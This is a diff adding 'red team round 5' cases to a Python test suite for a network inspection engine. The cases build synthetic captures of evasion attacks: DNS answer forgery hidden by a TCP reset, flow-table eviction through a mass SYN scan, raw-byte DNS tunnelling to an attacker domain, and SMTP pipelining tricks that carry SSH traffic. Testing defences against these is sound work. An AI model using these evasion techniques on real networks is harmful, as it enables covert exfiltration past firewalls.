@@ -7762,6 +7762,214 @@ def case_rt4_l2other_insert_vk(n):
     return cap, {"leak": [leak(n)]}
 
 
+# --- red team round 5 (rt5_): the strict zone's side doors
+
+
+@case
+def case_rt5_dns_tcp_forged_rst(n):
+    """Red team round 5: DNS over TCP to the resolver. The inside host sends the query
+    for the e2m name (vetted: a right sum, TTL 64, no options); its accomplice outside,
+    told the sequence numbers, sends a whole forged answer (e2m.customs.example is
+    198.18.0.66) at the resolver's next byte with a right checksum: new data the client
+    takes, so it teaches. The client then resets the connection at once. The resolver
+    (BIND, Unbound) is still recursing for the name; when its answer is ready the socket
+    is reset (write fails with ECONNRESET/EPIPE), so the true answer that would
+    contradict the forgery never reaches the wire. dns-learning.md says 'the forger can
+    still win where the resolver never answers a query that reached it; an inside host
+    cannot make that happen' - over TCP it can, with one RST. Since the nineteenth
+    session aduana holds back a client's RST while an answer of the flow can still be
+    contradicted (dns_rst_held): the resolver, never reset, sends its own answer
+    (198.51.100.5) at the same place, which conflicts with the forged one. Must drop the
+    TLS session with the e2m name to the forged address."""
+    cap = Capture()
+    qid = 0x4701
+    t = dns_tcp_conn(cap, 47001, qid)
+    t.raw(False, "A")  # the resolver's ACK of the query: it got it
+    fake = dns_tcp_answer(qid, ATK)
+    t.raw(False, "PA", fake, gap=3000)
+    t.sseq += len(fake)
+    t.raw(True, "R", seq=t.cseq, gap=100)
+    # the resolver's own answer, the RST having not reached it
+    t.raw(False, "PA", dns_tcp_answer(qid, E2M), seq=t.sseq - len(fake), gap=2000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 47002, ATK, qid, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt5_dns_tcp_answer_rst_ok(n):
+    """Honest twin of rt5_dns_tcp_forged_rst: the resolver's own answer over TCP, then
+    the client resets the connection (Windows' DnsClient and many stub resolvers abort a
+    TCP DNS connection with a RST once they have their answer). The address taught
+    (198.51.100.200) stays: a session there with the e2m name is allowed."""
+    cap = Capture()
+    qid = 0x4703
+    t = dns_tcp_conn(cap, 47003, qid)
+    ans = dns_tcp_answer(qid, ATK_OK)
+    t.raw(False, "PA", ans, gap=3000)
+    t.sseq += len(ans)
+    t.raw(True, "R", seq=t.cseq, gap=100)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 47004, ATK_OK, qid, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+def rt5_inbound_scan(cap, n, count, gap=2):
+    """An outside scan of the strict zone: count SYNs from many outside sources to
+    addresses of 10.10.0.0/16 (port 443), each a new inbound flow the zone drops at its
+    first packet (evictable)."""
+    for i in range(count):
+        src = "203.0.%d.%d" % (100 + (i >> 8) % 100, i & 0xff)
+        dst = "10.10.%d.%d" % (2 + (i >> 8) % 200, 1 + (i * 7) % 250)
+        pkt = IP(src=src, dst=dst) / TCP(sport=1024 + (i % 60000), dport=443, flags="S",
+                                        seq=i * 977, window=1024)
+        cap.emit(l2(src, dst) / pkt, gap)
+
+
+@case
+def case_rt5_dns_evict_forged(n):
+    """Red team round 5, flow-table pressure from outside: the inside host's UDP query
+    for the e2m name (vetted), the accomplice's forged answer (198.18.0.66) first:
+    it teaches. The inside host then sends one datagram of no DNS on the same 5-tuple:
+    the resolver flow is refused (exception:conformance) and so becomes evictable,
+    its pending entry still holding what the forgery taught. The accomplice scans the
+    zone from outside (9000 SYNs from many sources, 18 ms): each is a dropped inbound
+    flow; the table (4096 per worker) fills and evicts its oldest evictable flow, the
+    resolver flow. The resolver's true answer (the name is under the endpoint's
+    wildcard and uncached: recursion takes its tens of ms) then finds no flow: it opens
+    an inbound flow the zone drops, and is never compared with the forgery
+    (judge_learn_conflict never runs). The client's stub takes the first answer (the
+    forged one). Must drop the TLS session with the e2m name to 198.18.0.66."""
+    cap = Capture()
+    qid = 0x4705
+    name = "x7q." + E2M_NAME
+    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype="A")))
+    udp(cap, S1, 47005, RESOLVER, 53, q)
+    udp(cap, RESOLVER, 53, S1, 47005, forged_dns_answer(qid, name, ATK), gap=1000)
+    udp(cap, S1, 47005, RESOLVER, 53, prand(n + "junk", 40), gap=200)
+    rt5_inbound_scan(cap, n, 9000)
+    real = bytes(DNS(id=qid, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name, qtype="A")))
+    udp(cap, RESOLVER, 53, S1, 47005, real, gap=5000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 47006, ATK, qid, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt5_dns_evict_forged_ctl(n):
+    """Control for rt5_dns_evict_forged without the scan: the forged answer, the junk
+    datagram (resolver flow refused), then the resolver's NXDOMAIN on the same flow:
+    compared, a conflict, the forged address taken back. Must drop the TLS session."""
+    cap = Capture()
+    qid = 0x4707
+    name = "x7r." + E2M_NAME
+    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype="A")))
+    udp(cap, S1, 47007, RESOLVER, 53, q)
+    udp(cap, RESOLVER, 53, S1, 47007, forged_dns_answer(qid, name, ATK), gap=1000)
+    udp(cap, S1, 47007, RESOLVER, 53, prand(n + "junk", 40), gap=200)
+    real = bytes(DNS(id=qid, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name, qtype="A")))
+    udp(cap, RESOLVER, 53, S1, 47007, real, gap=20000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 47008, ATK, qid, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt5_dns_scan_learn_ok(n):
+    """Honest twin: an outside scan of the zone (9000 SYNs) arrives between the inside
+    host's query and the resolver's answer: the resolver flow (allowed, not evictable)
+    keeps its state, the answer teaches 198.51.100.200, and the session there with the
+    e2m name is allowed."""
+    cap = Capture()
+    qid = 0x4709
+    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
+    udp(cap, S1, 47009, RESOLVER, 53, q)
+    rt5_inbound_scan(cap, n, 9000)
+    udp(cap, RESOLVER, 53, S1, 47009, forged_dns_answer(qid, E2M_NAME, ATK_OK), gap=5000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 47010, ATK_OK, qid, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt5_dns_binlabel_tunnel(n):
+    """Red team round 5, DNS tunnelling through the resolver endpoint (iodine's raw
+    label encoding, NULL records): queries whose labels are raw bytes (0x80-0xff and
+    control bytes: no hostname has them, and aduana's own name reader refuses them),
+    type NULL (10), under the attacker's domain, and answers whose NULL RDATA carry the
+    marker. The wire check (dns_wire_check) passes labels and RDATA over whatever
+    they hold. BIND and Unbound take 8-bit labels (RFC 2181 11) and recurse to the
+    attacker's authoritative server, which reads the labels and answers. Must drop (a
+    message of no DNS a stub sends) at the first such query."""
+    cap = Capture()
+    for i in range(3):
+        raw = leak(n) + bytes(range(0x80 + i, 0x9e + i))
+        assert len(raw) <= 63
+        qn = bytes([len(raw)]) + raw + b"\x01t\x08attacker\x04test\x00"
+        hdr = struct.pack("!HHHHHH", 0x4711 + i, 0x0100, 1, 0, 0, 0)
+        q = hdr + qn + struct.pack("!HH", 10, 1)
+        rd = leak(n) + prand("%s-a%d" % (n, i), 200)
+        ahdr = struct.pack("!HHHHHH", 0x4711 + i, 0x8180, 1, 1, 0, 0)
+        a = (ahdr + qn + struct.pack("!HH", 10, 1) + b"\xc0\x0c"
+             + struct.pack("!HHIH", 10, 1, 0, len(rd)) + rd)
+        udp(cap, S1, 47011, RESOLVER, 53, q)
+        udp(cap, RESOLVER, 53, S1, 47011, a, gap=3000)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt5_smtp_data_pipe_bdat(n):
+    """Red team round 5, SMTP to the relay (CHUNKING announced, Postfix's default):
+    the client pipelines 'DATA' and, before the 354, its content (RFC 2920 puts DATA
+    last in a group; Postfix before 3.9, and 3.9 with smtpd_forbid_unauth_pipelining =
+    no, logs 'improper command pipelining after DATA' and reads the buffered bytes as
+    the message once it has sent 354). aduana reads bytes before the 354 as commands
+    (stream.md). The content's first line is 'BDAT 4000000' - to aduana a chunk of 4 MB
+    read over unchecked; to Postfix a line of the message, ended by the lone dot after
+    it; Postfix then reads the rest (an SSH banner, SSH binary packets) as command
+    lines. Non-SMTP bytes pass on the allowed flow. Must drop at the SSH packets."""
+    cap = Capture()
+    t = ETcp(cap, S1, 47012, MAIL, 25, isn=0x4712, rtt_us=4000)
+    t.handshake()
+    smtp_chunking_start(t)
+    t.data(True, b"DATA\r\nBDAT 4000000\r\nhello\r\n.\r\n")
+    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n250 2.0.0 Ok: queued as 4AB15\r\n")
+    t.data(True, SSH_BANNER)
+    t.data(False, b"502 5.5.2 Error: command not recognized\r\n")
+    t.data(True, ssh_binary(n, leak(n)))
+    t.data(True, ssh_binary(n + "2", leak(n)))
+    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt5_smtp_data_sp_bdat(n):
+    """Red team round 5: 'DATA ' with a trailing blank. Postfix splits the line into
+    words at blanks (smtpd_token) and takes DATA with no argument: 354, and the bytes
+    after are the message. aduana's verb match wants CR right after 'DATA'
+    (smtp_verb), so it reads the message as command lines. The message's first line is
+    'BDAT 4000000' (a chunk of 4 MB to aduana, read over), the lone dot ends it for
+    Postfix, and the SSH banner and binary packets after it reach Postfix as command
+    lines. Must drop at the SSH packets."""
+    cap = Capture()
+    t = ETcp(cap, S1, 47013, MAIL, 25, isn=0x4713, rtt_us=4000)
+    t.handshake()
+    smtp_chunking_start(t)
+    t.data(True, b"DATA \r\n")
+    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
+    t.data(True, b"BDAT 4000000\r\nhello\r\n.\r\n")
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB16\r\n")
+    t.data(True, SSH_BANNER)
+    t.data(False, b"502 5.5.2 Error: command not recognized\r\n")
+    t.data(True, ssh_binary(n, leak(n)))
+    t.data(True, ssh_binary(n + "2", leak(n)))
+    t.data(False, b"500 5.5.2 Error: bad syntax\r\n")
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+
 def rt25_hello_exts(seed, exts, sid=None, ciphers=CIPHERS):
     eb = b"".join(exts)
     sid = prand(seed + "s", 32) if sid is None else sid
